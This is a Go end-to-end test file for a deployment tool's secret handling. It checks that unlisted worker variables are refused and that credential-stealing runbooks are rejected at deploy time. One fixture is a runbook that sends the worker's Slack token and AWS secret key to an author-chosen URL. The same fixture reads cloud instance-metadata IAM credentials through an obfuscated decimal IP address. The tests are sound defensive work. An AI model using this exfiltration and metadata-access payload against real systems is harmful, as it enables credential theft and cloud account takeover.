package test

import (
	"os"
	"strings"
	"testing"

	"github.com/runbookhq/runbook/workflows"
)

// TestSecretNotAllowedOnWorker: the worker has the variable, but its
// RUNBOOK_ENV_ALLOW does not list it. The check is refused before any
// request (one attempt), the release rolls back naming the setting that
// would allow it, and the value is nowhere in history.
func TestSecretNotAllowedOnWorker(t *testing.T) {
	t.Parallel()
	r := newRig(t, "notallowed")
	secret := newSecret(t)
	srv := newTokenServer(t, secret)
	r.env = withoutVar(r.env, tokenVar)
	// The later RUNBOOK_ENV_ALLOW wins over the harness's list.
	r.startWorker(tokenVar+"="+secret, "RUNBOOK_ENV_ALLOW=E2E_*")
	path, digest := r.writeRunbook("runbook.yaml", secretRunbook, srv.srv.URL)

	id := r.deploy(path, digest, "1.0.0", "alice")
	if res := r.cli("watch", id); res.code == 0 {
		t.Fatalf("watch: want a non-zero exit, got %s", res)
	}
	st := r.status(id)
	if st.State != workflows.StateRolledBack {
		t.Fatalf("release is %s (%s), want rolled-back", st.State, st.Reason)
	}
	auth := step(t, env(t, st, "staging"), "authorized")
	for _, want := range []string{"env:" + tokenVar + " is not allowed on this worker", "RUNBOOK_ENV_ALLOW"} {
		if !strings.Contains(auth.Error, want) {
			t.Errorf("staging/authorized error %q lacks %q", auth.Error, want)
		}
	}
	if ok, denied, _ := srv.seen(); len(ok)+len(denied) != 0 {
		t.Errorf("the refused check sent requests: ok %v, denied %v", ok, denied)
	}
	stg := env(t, st, "staging")
	for _, run := range [][2]string{{id, ""}, {stg.WorkflowID, stg.RunID}} {
		if strings.Contains(historyText(fetchHistory(t, stack.client, run[0], run[1])), secret) {
			t.Errorf("the secret is in the workflow history of %s", run[0])
		}
	}
}

// workerCredentialRunbook sends the worker's Slack token and AWS secret to
// a URL of the author's choosing, and reads the metadata service by its
// decimal address.
const workerCredentialRunbook = `api-version: runbook/v1
service: {{.Service}}
owner: team-e2e
artifact:
  reference: {{.Artifact}}
environments:
  - name: staging
    steps:
      - name: exfil
        http-check:
          url: {{.X}}/open/collect
          headers:
            X-Slack: env:SLACK_BOT_TOKEN
            X-Aws: env:AWS_SECRET_ACCESS_KEY
      - name: imds
        http-check:
          url: http://2852039166/latest/meta-data/iam/security-credentials/
`

// TestWorkerCredentialsRefusedAtDeploy: such a runbook never starts a
// release; the CLI names each line and column.
func TestWorkerCredentialsRefusedAtDeploy(t *testing.T) {
	t.Parallel()
	r := newRig(t, "exfil")
	srv := newTokenServer(t, newSecret(t))
	path, digest := r.writeRunbook("runbook.yaml", workerCredentialRunbook, srv.srv.URL)
	res := r.cli("deploy", path, "--version", "1.0.0", "--digest", digest, "--as", "alice")
	if res.code == 0 {
		t.Fatalf("deploy accepted the runbook: %s", res)
	}
	out := res.stdout + res.stderr
	for _, want := range []string{
		"runbook.yaml:13:22: env:SLACK_BOT_TOKEN is never readable",
		"runbook.yaml:14:20: env:AWS_SECRET_ACCESS_KEY is never readable",
		"runbook.yaml:17:16: url \"http://2852039166/latest/meta-data/iam/security-credentials/\" is refused",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("deploy output lacks %q:\n%s", want, out)
		}
	}
	if _, _, open := srv.seen(); len(open) != 0 {
		t.Errorf("requests reached the author's server: %v", open)
	}
	if b, err := os.ReadFile(r.auditLog); err == nil && strings.Contains(string(b), "release.started") {
		t.Errorf("a release started:\n%s", b)
	}
}
